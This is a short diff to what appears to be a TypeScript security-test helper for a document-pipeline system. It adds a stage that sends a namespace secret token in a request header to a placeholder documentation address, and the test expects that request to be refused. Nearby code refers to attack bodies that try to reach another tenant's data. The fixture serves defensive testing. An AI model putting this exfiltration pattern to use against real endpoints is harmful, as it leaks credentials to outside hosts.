@@ -20,6 +20,8 @@ export function both(w: World, c: Omit<Case, 'key' | 'what'> & { what: string })
 
 export const stage = (id: string, parameters: Json) => ({ stage_id: id, parameters });
 export const allDocs = stage('attribute_filter', { field: 'title', operator: 'exists', value: true });
+/** An api_call sending the namespace secret `token` (only V holds one) to a documentation address (refused, skipped). */
+export const sendsToken = stage('api_call', { url: 'http://192.0.2.1/hook', allowed_domains: ['192.0.2.1'], headers: { 'x-api-key': '{{SECRET.token}}' }, on_error: 'skip', timeout: 1 });
 
 /** Anonymous-execute bodies that reach V's data through references inside them. */
 export function executeAttacks(w: World): { what: string; body: Json }[] {
